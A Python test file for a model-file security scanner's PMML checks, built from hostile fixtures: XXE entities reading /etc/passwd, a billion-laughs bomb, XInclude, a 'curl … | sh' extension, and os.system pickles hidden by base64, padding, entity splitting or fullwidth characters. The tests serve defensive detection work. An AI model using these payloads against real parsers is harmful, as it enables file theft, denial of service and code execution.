from __future__ import annotations

import time
from pathlib import Path

from modelaudit.findings import IssueSeverity
from modelaudit.rules import text as rt
from tests.dataformats._dataformats_util import assert_clean, rules_of, scan, wide

PMML = """<?xml version="1.0" encoding="UTF-8"?>
<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">
  <Header copyright="Copyright (c) 2024 Example" description="Iris tree">
    <Application name="SkLearn2PMML package" version="0.104.0"/>
  </Header>
  <DataDictionary>
    <DataField name="petal_length" optype="continuous" dataType="double"/>
    <DataField name="species" optype="categorical" dataType="string">
      <Value value="setosa"/><Value value="versicolor"/>
    </DataField>
  </DataDictionary>
  <TreeModel modelName="IrisTree" functionName="classification">
    <Extension name="X-Note" value="built by sklearn2pmml"/>
    <MiningSchema>
      <MiningField name="species" usageType="target"/>
      <MiningField name="petal_length"/>
    </MiningSchema>
    <Node score="setosa">
      <True/>
      <Node score="versicolor"><SimplePredicate field="petal_length" operator="greaterThan"
        value="2.45"/></Node>
    </Node>
  </TreeModel>
</PMML>
"""


def test_legitimate_pmml_is_clean(tmp_path: Path) -> None:
    path = tmp_path / "iris.pmml"
    path.write_text(PMML)
    result = scan(path)
    assert result.scanner_name == "pmml"
    assert_clean(result)
    assert result.metadata["model_names"] == ["IrisTree"]
    assert result.metadata["copyright"].startswith("Copyright")


def test_external_entity_is_critical(tmp_path: Path) -> None:
    doc = PMML.replace(
        "<PMML xmlns",
        '<!DOCTYPE PMML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<PMML xmlns',
    ).replace('value="built by sklearn2pmml"', 'value="&xxe;"')
    path = tmp_path / "xxe.pmml"
    path.write_text(doc)
    result = scan(path)
    assert rt.PMML_XXE in rules_of(result, IssueSeverity.CRITICAL)


def test_external_dtd_and_parameter_entity(tmp_path: Path) -> None:
    path = tmp_path / "dtd.pmml"
    path.write_text('<?xml version="1.0"?><!DOCTYPE PMML SYSTEM "http://127.0.0.1:9/x.dtd"><PMML/>')
    assert rt.PMML_XXE in rules_of(scan(path), IssueSeverity.CRITICAL)
    path.write_text(
        '<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY % p SYSTEM "http://127.0.0.1:9/e">%p;]>'
        "<PMML/>"
    )
    assert rt.PMML_XXE in rules_of(scan(path), IssueSeverity.CRITICAL)


def test_billion_laughs_is_critical_and_fast(tmp_path: Path) -> None:
    ents = ['<!ENTITY lol0 "lol">']
    ents += [f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)]
    doc = f'<?xml version="1.0"?><!DOCTYPE PMML [{"".join(ents)}]><PMML><Header>&lol9;</Header></PMML>'
    path = tmp_path / "bomb.xml.pmml"
    path.write_text(doc)
    start = time.monotonic()
    result = scan(path)
    assert time.monotonic() - start < 30
    assert rt.PMML_ENTITY_BOMB in rules_of(result, IssueSeverity.CRITICAL)


def test_internal_dtd_is_warning(tmp_path: Path) -> None:
    path = tmp_path / "dtd.pmml"
    path.write_text('<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY a "b">]><PMML>&a;</PMML>')
    result = scan(path)
    assert rt.PMML_DTD in rules_of(result, IssueSeverity.WARNING)
    assert not rules_of(result, IssueSeverity.CRITICAL)


def test_extension_with_code(tmp_path: Path) -> None:
    doc = PMML.replace(
        '<Extension name="X-Note" value="built by sklearn2pmml"/>',
        '<Extension name="X-Script"><Code>import os; os.system("curl http://e/x | sh")</Code>'
        "</Extension>",
    )
    path = tmp_path / "code.pmml"
    path.write_text(doc)
    assert rt.PMML_EXTENSION_CODE in rules_of(scan(path), IssueSeverity.WARNING)


def test_renamed_pmml_routes_by_content(tmp_path: Path) -> None:
    path = tmp_path / "model.bin"
    path.write_text(PMML)
    result = scan(path)
    assert result.scanner_name == "pmml"
    assert_clean(result)


def test_xinclude_is_critical(tmp_path: Path) -> None:
    path = tmp_path / "xi.pmml"
    path.write_text(
        '<?xml version="1.0"?><PMML xmlns:xi="http://www.w3.org/2001/XInclude">'
        '<Header><xi:include href="file:///etc/passwd" parse="text"/></Header></PMML>'
    )
    result = scan(path)
    assert rt.PMML_XXE in rules_of(result, IssueSeverity.CRITICAL)


def test_extension_with_base64_pickle_is_scanned(tmp_path: Path) -> None:
    import base64

    evil = b"\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."
    doc = PMML.replace(
        '<Extension name="X-Note" value="built by sklearn2pmml"/>',
        f'<Extension name="X-State">{base64.b64encode(evil).decode()}</Extension>',
    )
    path = tmp_path / "pickle.pmml"
    path.write_text(doc)
    result = scan(path)
    assert rt.PMML_EXTENSION_CODE in rules_of(result, IssueSeverity.WARNING)
    assert any(
        "os.system" in i.message for i in result.issues if i.severity is IssueSeverity.CRITICAL
    )


def test_extension_code_in_compatibility_characters(tmp_path: Path) -> None:
    """Python reads identifiers in NFKC form, so a fullwidth `__import__` (its first `_`
    ASCII: a fullwidth one cannot start a name) is `__import__` to whatever evaluates the
    text: judged like the ASCII spelling."""
    code = "_" + wide("_import__") + "('os')." + wide("system") + "('id')"
    assert compile(code, "<x>", "eval").co_names[0] == "__import__"
    doc = PMML.replace(
        '<Extension name="X-Note" value="built by sklearn2pmml"/>',
        f'<Extension name="X-Script"><Code>{code}</Code></Extension>',
    )
    path = tmp_path / "code.pmml"
    path.write_text(doc, encoding="utf-8")
    assert rt.PMML_EXTENSION_CODE in rules_of(scan(path), IssueSeverity.WARNING)


def test_a_pickle_in_the_eleventh_extension_payload_is_scanned(tmp_path: Path) -> None:
    """Only the first 10 Extension payloads were looked at: a pickle after 10 snippets of
    shell went unscanned (a WARNING where the pickle is CRITICAL)."""
    import base64

    evil = b"\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."
    notes = "".join(
        f'<Extension name="X-Run{n}"><Code>import os; os.system("echo {n}")</Code></Extension>'
        for n in range(10)
    )
    state = f'<Extension name="X-State">{base64.b64encode(evil).decode()}</Extension>'
    doc = PMML.replace('<Extension name="X-Note" value="built by sklearn2pmml"/>', notes + state)
    path = tmp_path / "pickle.pmml"
    path.write_text(doc)
    result = scan(path)
    assert any(
        "os.system" in i.message for i in result.issues if i.severity is IssueSeverity.CRITICAL
    )


def test_a_pickle_after_a_megabyte_of_extension_text_is_scanned(tmp_path: Path) -> None:
    """Only an Extension's first megabyte was read: a base64 pickle after 1 MB of numbers
    in the same Extension went unread, and the file scanned clean."""
    import base64

    evil = b"\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."
    padding = " ".join(["0.125"] * 200_000)  # 1.2 MB of a vendor's numbers
    state = f'<Extension name="X-State">{padding} {base64.b64encode(evil).decode()}</Extension>'
    doc = PMML.replace('<Extension name="X-Note" value="built by sklearn2pmml"/>', state)
    path = tmp_path / "padded.pmml"
    path.write_text(doc)
    result = scan(path)
    assert any(
        "os.system" in i.message for i in result.issues if i.severity is IssueSeverity.CRITICAL
    )


def test_a_large_extension_of_plain_text_and_tokens_is_clean(tmp_path: Path) -> None:
    """Every token of an Extension is read now; vendor text full of long tokens that are
    not pickles (hashes, identifiers) stays clean."""
    import hashlib

    tokens = " ".join(hashlib.sha256(str(n).encode()).hexdigest() for n in range(60_000))
    state = f'<Extension name="X-Hashes">{tokens}</Extension>'
    doc = PMML.replace('<Extension name="X-Note" value="built by sklearn2pmml"/>', state)
    path = tmp_path / "hashes.pmml"
    path.write_text(doc)
    assert_clean(scan(path))


def test_a_pickle_in_internal_entities_an_extension_uses_is_scanned(tmp_path: Path) -> None:
    """Parsers PMML consumers use (expat under ElementTree, lxml under Nyoka, Java's SAX
    under jpmml/pypmml) expand internal entities, so an Extension's text is what its entity
    references expand to. Only `&name;` was searched: a base64 os.system pickle in an entity
    value, whole or split across two, was only the DTD warning."""
    import base64

    evil = base64.b64encode(b"\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.")
    half = len(evil) // 2
    for name, entities, body in [
        ("whole", f'<!ENTITY p "{evil.decode()}">', "&p;"),
        (
            "split",
            f'<!ENTITY a "{evil[:half].decode()}"><!ENTITY b "&c;"><!ENTITY c "{evil[half:].decode()}">',
            "&a;&b;",
        ),
    ]:
        doc = PMML.replace(
            '<?xml version="1.0" encoding="UTF-8"?>',
            f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE PMML [{entities}]>',
        ).replace(
            '<Extension name="X-Note" value="built by sklearn2pmml"/>',
            f'<Extension name="X-State">{body}</Extension>',
        )
        path = tmp_path / f"{name}.pmml"
        path.write_text(doc)
        result = scan(path)
        assert any(
            "os.system" in i.message for i in result.issues if i.severity is IssueSeverity.CRITICAL
        ), (name, result.issues)


def test_an_escaped_ampersand_is_not_an_entity_reference(tmp_path: Path) -> None:
    """`&amp;p;` in an Extension is the text `&p;`, not a use of the entity p."""
    import base64

    evil = base64.b64encode(b"\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.")
    doc = PMML.replace(
        '<?xml version="1.0" encoding="UTF-8"?>',
        f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE PMML [<!ENTITY p "{evil.decode()}">]>',
    ).replace(
        '<Extension name="X-Note" value="built by sklearn2pmml"/>',
        '<Extension name="X-State">&amp;p;</Extension>',
    )
    path = tmp_path / "escaped.pmml"
    path.write_text(doc)
    assert rt.PMML_EXTENSION_CODE not in rules_of(scan(path))


def test_an_entity_bomb_inside_an_extension_is_expanded_within_a_budget(tmp_path: Path) -> None:
    """The expansion searched is charged to a budget: a bomb used in an Extension is the bomb
    finding and an inconclusive file (MA9004), not a hang."""
    decls = '<!ENTITY l0 "lol">' + "".join(
        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)
    )
    doc = PMML.replace(
        '<?xml version="1.0" encoding="UTF-8"?>',
        f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE PMML [{decls}]>',
    ).replace(
        '<Extension name="X-Note" value="built by sklearn2pmml"/>',
        '<Extension name="X-State">&l9;</Extension>',
    )
    path = tmp_path / "bomb.pmml"
    path.write_text(doc)
    result = scan(path)
    assert rt.PMML_ENTITY_BOMB in rules_of(result, IssueSeverity.CRITICAL)
    assert "MA9004" in rules_of(result)
